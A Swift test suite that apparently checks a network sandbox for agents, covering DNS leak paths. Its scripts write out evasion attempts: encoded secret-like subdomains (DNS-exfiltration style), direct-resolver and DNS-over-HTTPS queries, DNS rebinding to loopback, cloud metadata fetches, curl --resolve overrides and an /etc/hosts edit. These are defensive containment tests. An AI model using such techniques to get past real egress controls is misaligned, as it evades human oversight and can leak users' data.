import Foundation
import Testing

extension EndToEnd {
    @Suite("DNS", .serialized, .enabled(if: Internet.available, "needs root: a network of the test's own"))
    struct DNSTests {
        let place: Place
        let internet: Internet

        init() throws {
            place = try Place()
            internet = try Internet.started()
        }

        private func rules(_ rules: String...) -> String {
            "extends: [base]\negress:\n" + rules.map { "  - {\($0), allow: [\"* /**\"]}\n" }.joined()
        }

        @Test("B01: a name that no rule mentions is answered here and never asked upstream")
        func deniedName() throws {
            let script =
                "dig +short czNjcjN0LVJFQUw.denied.test; dig +short -t AAAA czNjcjN0LVJFQUw.denied.test"
            let control = try place.unconfined(script, in: internet)
            #expect(control.queries.contains("czNjcjN0LVJFQUw.denied.test".lowercased()), "\(control)")
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.queries.isEmpty, "\(attempt)")
            #expect(attempt.output.split(separator: "\n").count == 2, "\(attempt)")
            #expect(!attempt.output.contains("93.184."))
        }

        @Test("B01: nor when a program connects to it")
        func deniedConnection() throws {
            let script = "curl -sk -m30 https://czNjcjN0.denied.test/"
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.queries.isEmpty, "\(attempt)")
            #expect(attempt.denial?.reason == "no-rule")
            #expect(
                try place.unconfined(script, in: internet).queries.contains(
                    "czNjcjN0.denied.test".lowercased()
                )
            )
        }

        @Test("B02: under an allowed suffix a name is asked upstream only when a request for it is permitted")
        func allowedSuffix() throws {
            let policy =
                "extends: [base]\negress: [{to: \"http://*.allowed.test\", allow: [\"GET /v1/**\"]}]\n"
            let attempt = try place.attempt(
                """
                for i in $(seq 100); do echo "s3cr3t-$i.allowed.test"; done > names
                dig +short -f names | grep -c .; curl -sS -m30 http://refused.allowed.test/elsewhere
                curl -sS -m30 http://used.allowed.test/v1/b02
                """,
                profile: policy,
                in: internet
            )
            #expect(attempt.output.hasPrefix("100\n"), "\(attempt)")
            #expect(attempt.output.contains("reached used.allowed.test /v1/b02"), "\(attempt)")
            #expect(Set(attempt.queries) == ["used.allowed.test"], "\(attempt)")
        }

        @Test(
            "B03 B04: a query to a resolver of the agent's choice is answered here",
            arguments: ["+notcp", "+tcp"]
        )
        func directResolver(transport: String) throws {
            func script(_ seconds: Int) -> String {
                "dig \(transport) +short +time=\(seconds) +tries=1 @8.8.8.8 b03.denied.test"
            }
            let control = try place.unconfined(script(1), in: internet)
            #expect(control.sink.contains { $0.hasSuffix("to 8.8.8.8 53") }, "\(control)")
            let attempt = try place.attempt(script(30), in: internet)
            #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
            #expect(attempt.output.hasPrefix("198.18."), "\(attempt)")
        }

        @Test(
            "B06: DNS over HTTPS is a request like any other: denied unless named",
            arguments: [
                "https://1.1.1.1/dns-query?name=b06.test", "https://dns.google/resolve?name=b06.test",
            ]
        )
        func overHTTPS(url: String) throws {
            let attempt = try place.attempt("curl -sk -m30 '\(url)'", in: internet)
            #expect(attempt.denial?.reason == "no-rule", "\(attempt)")
            #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
        }

        @Test(
            "B07: no record but A and AAAA exists",
            arguments: ["TXT", "HTTPS", "SVCB", "ANY", "NULL", "MX", "SRV", "CNAME"]
        )
        func otherRecords(type: String) throws {
            let attempt = try place.attempt(
                "dig -t \(type) cmd.denied.test; dig +short -t A cmd.denied.test",
                in: internet
            )
            #expect(attempt.output.contains("ANSWER: 0"), "\(attempt)")
            #expect(attempt.output.contains("198.18."), "\(attempt)")
            #expect(attempt.queries.isEmpty, "\(attempt)")
        }

        @Test("B08: a name that turns to loopback after its first answer is not followed there")
        func rebinding() throws {
            let policy = rules("to: \"http://rebind-b08.test\"")
            let first = try place.attempt(
                "curl -sS -m30 http://rebind-b08.test/b08",
                profile: policy,
                in: internet
            )
            #expect(first.output.contains("reached"), "\(first)")
            let second = try place.attempt(
                "curl -sS -m30 http://rebind-b08.test/b08",
                profile: policy,
                in: internet
            )
            #expect(second.denial?.reason == "forbidden-address", "\(second)")
            #expect(second.denial?.message.contains("127.0.0.1") == true)
            #expect(second.sink.isEmpty, "\(second)")
            #expect(second.denied.last?.record.reason == "forbidden-address")
        }

        @Test("B08 B13: within one agent as well, whatever it keeps open")
        func rebindingWithinAgent() throws {
            let attempt = try place.attempt(
                "for i in 1 2 3; do curl -sS -m30 http://rebind-within.test/; done",
                profile: rules("to: \"http://rebind-within.test\""),
                in: internet
            )
            #expect(attempt.output.contains("reached"), "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
        }

        @Test("B09: of a mixed answer only the public address is dialled")
        func mixedAnswer() throws {
            let attempt = try place.attempt(
                "curl -sS -m30 http://mixed.test/b09; curl -sS -m30 http://bad-only.test/",
                profile: rules("to: \"http://mixed.test\"", "to: \"http://bad-only.test\""),
                in: internet
            )
            #expect(attempt.output.contains("reached mixed.test /b09"), "\(attempt)")
            #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
            let control = try place.unconfined("curl -sS -m30 http://bad-only.test/", in: internet)
            #expect(!control.sink.isEmpty, "\(control)")
        }

        @Test("B10: policy is by the name asked for; the address behind an alias is checked all the same")
        func alias() throws {
            let attempt = try place.attempt(
                "curl -sS -m30 http://cname-public.test/b10; curl -sS -m30 http://cname-private.test/",
                profile: rules("to: \"http://cname-public.test\"", "to: \"http://cname-private.test\""),
                in: internet
            )
            #expect(attempt.output.contains("reached cname-public.test /b10"), "\(attempt)")
            #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
        }

        @Test(
            "B12: an allowed name never leads to a metadata service, not even with private: true",
            arguments: [
                "metadata.test", "metadata6.test", "ali.test", "wire.test", "mapped.test", "nat64.test",
            ]
        )
        func metadata(name: String) throws {
            let attempt = try place.attempt(
                "curl -sS -m30 http://\(name)/latest/",
                profile: rules("to: \"http://\(name)\", private: true"),
                in: internet
            )
            #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
            let control = try place.unconfined("curl -sS -m30 http://\(name)/latest/", in: internet)
            #expect(!control.sink.isEmpty, "\(control)")
        }

        @Test("B12: an address of the machine itself is refused, unless the rule says private: true")
        func ownAddress() throws {
            let script = "timeout 60 curl -sS -m30 http://own.test/"
            let attempt = try place.attempt(script, profile: rules("to: \"http://own.test\""), in: internet)
            #expect(attempt.denial?.reason == "forbidden-address", "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
            let twin = try place.attempt(
                script,
                profile: rules("to: \"http://own.test\", private: true"),
                in: internet
            )
            #expect(twin.sink.contains { $0.contains("bytes to 93.184.216.200 80") }, "\(twin)")
        }

        @Test(
            "B15: a synthetic address that was never handed out leads nowhere",
            arguments: ["https", "http"]
        )
        func unknownAddress(scheme: String) throws {
            let attempt = try place.attempt("curl -sk -m30 \(scheme)://198.18.200.200/v1/x", in: internet)
            #expect(attempt.denied.count == 1, "\(attempt)")
            #expect(!attempt.output.contains("reached"))
            #expect(attempt.sink.isEmpty && attempt.queries.isEmpty, "\(attempt)")
        }

        @Test(
            "B16: the resolvers of common runtimes are answered",
            arguments: [
                "getent ahosts allowed.test | head -1 | cut -d' ' -f1",
                "python3 -c 'import socket; print(socket.getaddrinfo(\"allowed.test\", 1, socket.AF_INET6)[0][4][0])'",
                "python3 -c 'import socket; print(socket.gethostbyname(\"allowed.test\"))'",
                "dig +short +edns=0 allowed.test", "dig +short +tcp allowed.test",
            ]
        )
        func resolvers(script: String) throws {
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.output.hasPrefix("198.18.") || attempt.output.hasPrefix("fd"), "\(attempt)")
        }

        @Test(
            "B16: Node's two resolvers are answered",
            .enabled(if: Programs.has("node"), "needs node"),
            arguments: ["lookup", "resolve4"]
        )
        func nodeResolver(function: String) throws {
            let attempt = try place.attempt(
                "node -e 'require(\"dns\").\(function)(\"allowed.test\", (e, a) => console.log(e || \"\" + a))'",
                in: internet
            )
            #expect(attempt.output.hasPrefix("198.18.") || attempt.output.hasPrefix("fd"), "\(attempt)")
        }

        @Test(
            "B17: case and a final dot do not change the decision",
            arguments: ["aLLoWed.TEST", "allowed.test.", "ALLOWED.TEST."]
        )
        func spelling(name: String) throws {
            let attempt = try place.attempt(
                "curl -sS -m30 https://\(name)/v1/b17; curl -sS -m30 https://\(name)/b17; dig +short \(name)",
                in: internet
            )
            #expect(attempt.output.contains("reached allowed.test /v1/b17"), "\(attempt)")
            #expect(attempt.denied.map(\.record.resource) == ["https://allowed.test"], "\(attempt)")
        }

        @Test("B18: a name that the agent maps to an address of its own is not believed")
        func mappedByAgent() throws {
            let script = "curl -sk -m30 --resolve allowed.test:443:93.184.216.66 https://allowed.test/v1/b18"
            let control = try place.unconfined(script, in: internet)
            #expect(control.sink.contains { $0.contains("bytes to 93.184.216.66 443") }, "\(control)")
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.sink.isEmpty, "\(attempt)")
            #expect(attempt.denied.count == 1, "\(attempt)")
            #expect(!attempt.output.contains("reached"), "\(attempt)")
            let edit = try place.attempt(
                "echo 93.184.216.66 allowed.test >> /etc/hosts; echo $?",
                in: internet
            )
            #expect(edit.output != "0\n", "\(edit)")
        }
    }
}
